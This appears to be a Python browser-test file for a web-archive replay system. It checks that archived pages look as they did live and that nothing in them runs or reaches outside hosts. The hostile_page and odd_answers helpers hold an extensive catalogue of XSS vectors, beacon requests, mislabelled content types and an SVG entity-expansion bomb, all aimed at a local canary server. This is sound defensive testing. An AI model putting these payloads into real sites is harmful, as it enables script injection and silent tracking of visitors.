"""Archived pages in a real browser: they look as they did, and nothing of them runs or asks for anything elsewhere."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from datetime import datetime
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Error, Page

from archive import Collection
from archive.config import Who
from archive.replay.addresses import archived_address
from archive.times import stamp14
from crawler.demo.answers import Site
from crawler.demo.blogger.site import blogger_site
from crawler.demo.opensid.site import opensid_site
from crawler.demo.server import serve
from crawler.demo.wordpress.site import wordpress_site
from tests.archive.replay import png
from tests.archive.replay.stored import JPEG, NOON, SITE, answer, room_of, store
from tests.end_to_end.conftest import crawl, new_collection

# Minutes where several suites share two cores.
pytestmark = [pytest.mark.needs("chromium"), pytest.mark.timeout(600)]

STAMP = stamp14(NOON)


# ---- nothing runs ----


@dataclass
class Canary:
    """A server elsewhere, which nobody should ask."""

    address: str
    asked: list[str] = field(default_factory=list)


@contextmanager
def canary() -> Iterator[Canary]:
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield Canary(f"http://127.0.0.1:{server.server_address[1]}", asked)
    finally:
        server.shutdown()
        server.server_close()


def hostile_page(there: str) -> str:
    """Scripts and requests in every place a page has. `there`: where they would call."""
    run = f"top.document.title='JALAN';document.title='JALAN';new Image().src='{there}/'+Math.random()"
    return f"""<!doctype html><html onload="{run}"><head><title>Aman</title><base href="{there}/">
<script>{run}</script><script src="{there}/luar.js"></script>
<meta http-equiv="refresh" content="0;url={there}/pindah"><meta http-equiv="Content-Security-Policy" content="script-src *">
<link rel="dns-prefetch" href="{there}"><link rel="preconnect" href="{there}"><link rel="prefetch" href="{there}/p">
<link rel="preload" as="image" href="{there}/p"><link rel="manifest" href="{there}/m"><link rel="stylesheet" href="{there}/luar.css">
<style>@import "{there}/a.css"; @import url({there}/b.css); @font-face{{font-family:x;src:url({there}/f.woff2)}}
body{{font-family:x;background:url({there}/c.png);behavior:url({there}/d.htc);-moz-binding:url({there}/e.xml);
width:expression({run});cursor:url({there}/f.cur),auto;background:u\\72l({there}/g.png);list-style:image-set("{there}/h.png" 1x)}}</style>
</head><body onload="{run}" background="{there}/i.png" onpageshow="{run}" onhashchange="{run}">
<img src="{there}/j.png" onerror="{run}" srcset="{there}/k.png 2x" style="background:url({there}/l.png)">
<img src=x onerror="{run}"><svg onload="{run}"><script>{run}</script><image href="{there}/m.png"/><use href="{there}/n.svg#a"/>
<a xlink:href="javascript:{run}"><text y="20">t</text></a><animate onbegin="{run}" attributeName="x" dur="1s"/>
<foreignObject><iframe src="javascript:{run}"></iframe></foreignObject></svg>
<iframe src="{there}/bingkai"></iframe><iframe srcdoc="<script>{run}</script>"></iframe><frame src="{there}/f">
<object data="{there}/o.swf"></object><embed src="{there}/e.swf"><applet code="{there}/a.class"></applet>
<video src="{there}/v.mp4" poster="{there}/v.jpg" autoplay onerror="{run}"></video><audio src="{there}/a.mp3" autoplay></audio>
<form action="{there}/kirim" method="post"><input autofocus onfocus="{run}" name="a"><button id="kirim">Kirim</button></form>
<a id="skrip" href="javascript:{run}">skrip</a><a id="ping" href="/aman" ping="{there}/ping">ping</a>
<details open ontoggle="{run}"><summary>d</summary></details><marquee onstart="{run}">m</marquee>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run}&gt;"></table></math>
<noscript><p title="</noscript><img src=x onerror={run}>"></noscript><template><script>{run}</script></template>
<!--[if IE]><script>{run}</script><![endif]--><?xml-stylesheet href="{there}/x.xsl"?><![CDATA[<script>{run}</script>]]>
+ADw-script+AD4-{run}+ADw-/script+AD4-<a "'><script>{run}</script>'>x</a><b<script>{run}</script>>y</b>
<p style="background:url({there}/q.png)">isi yang dibaca</p><script>{run}"""


def odd_answers(there: str) -> list[tuple[str, bytes]]:
    """Answers that say they are something else, each with a script."""
    script = f"<html><script>document.title='JALAN';new Image().src='{there}/odd'</script>isi"
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="new Image().src=\'{there}/svg\'"><script>document.title="JALAN";new Image().src="{there}/svg"</script><image href="{there}/svg.png"/></svg>'
    return [
        ("/gambar.jpg", answer(script, "image/jpeg")),
        ("/gambar.svg", answer(svg, "image/svg+xml")),
        ("/gaya.css", answer(script, "text/css")),
        ("/polos.txt", answer(script, "text/plain")),
        ("/data.json", answer(script, "application/json")),
        ("/halaman.xml", answer(f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{script}</script></html>', "application/xml")),
        ("/tanpa", answer(script, "")),
        ("/utf7", answer("+ADw-script+AD4-document.title='JALAN'+ADw-/script+AD4-", "text/html; charset=utf-7")),
        ("/utf16", answer(script.encode("utf-16-le"), "text/html; charset=utf-16le")),
        ("/kuki", answer(script, more=f"Set-Cookie: a=b\r\nRefresh: 0;url={there}/r\r\nLink: <{there}/l>; rel=preload; as=image\r\nContent-Security-Policy: script-src *\r\n")),
        ("/bom.svg", answer('<!DOCTYPE svg [<!ENTITY a "' + "a" * 90 + '"><!ENTITY b "' + "&a;" * 90 + '">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>', "image/svg+xml")),
    ]  # fmt: skip


def tab_of(browser: Browser, room: str) -> tuple[Page, list[str]]:
    """A tab, and what it asked of anybody but the room."""
    context = browser.new_context(viewport={"width": 1000, "height": 900})
    elsewhere: list[str] = []
    tab = context.new_page()
    context.on("request", lambda request: _note(request.url, room, elsewhere))
    return tab, elsewhere


def _note(url: str, room: str, elsewhere: list[str]) -> None:
    if urlsplit(url).scheme.startswith("http") and not url.startswith(room):
        elsewhere.append(url)


@pytest.fixture
def collection(tmp_path: Path) -> Collection:
    return Collection.create(tmp_path / "koleksi", Who(operator="Uji", contact="uji@contoh.example"))


def test_nothing_of_a_hostile_page_runs_or_asks(browser: Browser, collection: Collection) -> None:
    with canary() as elsewhere:
        there = elsewhere.address
        # What the page asks for is archived as well, so that nothing fails for want of an answer.
        store(collection, ("/jahat", answer(hostile_page(there))), (f"{there}/bingkai", answer(hostile_page(there))),
              (f"{there}/j.png", answer(JPEG, "image/jpeg")), ("/aman", answer("aman")))  # fmt: skip
        with room_of(collection) as room:
            for modifier in ("", "mp_", "if_"):
                tab, asked = tab_of(browser, room)
                tab.goto(room + archived_address(STAMP, f"{SITE}/jahat", modifier), wait_until="networkidle")
                page = tab.frames[1] if modifier == "" else tab.main_frame
                assert "isi yang dibaca" in page.content()
                page.locator("#skrip").click()
                page.locator("#kirim").click(no_wait_after=True)
                tab.wait_for_timeout(300)

                assert "JALAN" not in tab.title()
                assert page.evaluate("document.title") == "Aman"
                assert page.evaluate("origin") == "null"
                assert asked == []
                tab.context.close()
        assert elsewhere.asked == []


def test_answers_that_are_not_what_they_say_do_nothing(browser: Browser, collection: Collection) -> None:
    with canary() as elsewhere:
        answers = odd_answers(elsewhere.address)
        store(collection, *answers)
        with room_of(collection) as room:
            tab, _ = tab_of(browser, room)
            for path, _ in answers:
                for modifier in ("", "mp_", "im_", "cs_", "oe_", "id_"):
                    with suppress(Error):  # what is saved is no page
                        tab.goto(room + archived_address(STAMP, SITE + path, modifier), timeout=20_000)
                    assert "JALAN" not in tab.title(), (path, modifier)
            tab.wait_for_timeout(300)
            assert tab.context.cookies() == []
            tab.context.close()
        assert elsewhere.asked == []  # what a drawing would like to have, its policy refuses before it is asked for


def test_a_link_leaves_the_frame_and_our_banner_goes_with_it(browser: Browser, collection: Collection) -> None:
    store(collection, ("/a", answer('<a href="/b">ke b</a>')), ("/b", answer("<h1>halaman b</h1>"), 3))
    with room_of(collection) as room:
        tab, _ = tab_of(browser, room)
        tab.goto(room + archived_address(STAMP, f"{SITE}/a"))
        tab.frame_locator("iframe").get_by_role("link", name="ke b").click()
        tab.wait_for_url("**/b")

        assert tab.frame_locator("iframe").get_by_role("heading", name="halaman b").is_visible()
        assert "28 November 2026" in tab.locator(".archive-banner").inner_text()
        tab.context.close()


# ---- it looks as it did ----


@pytest.mark.parametrize("build", [wordpress_site, blogger_site])
def test_an_archived_page_looks_as_the_live_one(browser: Browser, tmp_path: Path, build: Callable[[str], Site]) -> None:
    collection = new_collection(tmp_path / "koleksi")
    with serve(build) as site:
        assert crawl(collection, site.url, "--requisites", "all").code in (0, 2)
        pages = [one.url for one in collection.documents() if one.kind == "article" and one.captions][:1]
        assert pages
        with room_of(collection) as room:
            for url in [site.url, *pages]:
                shots = []
                for address in (url, f"{room}/arsip/{stamp14(_moment(collection, url))}mp_/{url}"):
                    context = browser.new_context(viewport={"width": 1000, "height": 1400})
                    tab = context.new_page()
                    tab.goto(address, wait_until="networkidle")
                    shots.append(tab.screenshot(full_page=True))
                    context.close()
                assert png.share_that_differs(*shots) < 0.002, url


_LOOK = """[...document.querySelectorAll("h1, h2, h3, h4, h5, ul, table, footer")].map(one => {
    const style = getComputedStyle(one);
    return [one.tagName, Math.round(one.getBoundingClientRect().left), style.color, style.backgroundColor,
            style.fontSize, style.fontFamily, style.textAlign];
})"""
_PICTURES = "[...document.images].map(one => [new URL(one.src).pathname.split('/').pop(), one.naturalWidth > 0])"


def test_layout_and_style_are_the_live_ones_where_counters_run_and_robots_txt_forbids_pictures(
    browser: Browser, tmp_path: Path
) -> None:
    collection = new_collection(tmp_path / "koleksi")
    with serve(opensid_site) as site:
        assert crawl(collection, site.url, "--requisites", "all").code in (0, 2)
        archived = {one.url.rpartition("/")[2] for one in collection.captures() if one.status == 200}
        with room_of(collection) as room:
            looks, pictures = [], []
            for address in (site.url, f"{room}/arsip/{stamp14(_moment(collection, site.url))}mp_/{site.url}"):
                context = browser.new_context(viewport={"width": 1000, "height": 1400})
                tab = context.new_page()
                tab.goto(address, wait_until="networkidle")
                looks.append(tab.evaluate(_LOOK))
                pictures.append([tuple(one) for one in tab.evaluate(_PICTURES)])
                context.close()

    live, shown = pictures
    assert looks[0]
    assert looks[1] == looks[0]
    assert any(name in archived for name, _ in live)
    assert shown == [(name, name in archived) for name, _ in live]


def _moment(collection: Collection, url: str) -> datetime:
    return next(one.captured_at for one in collection.captures() if one.url == url and one.status == 200)
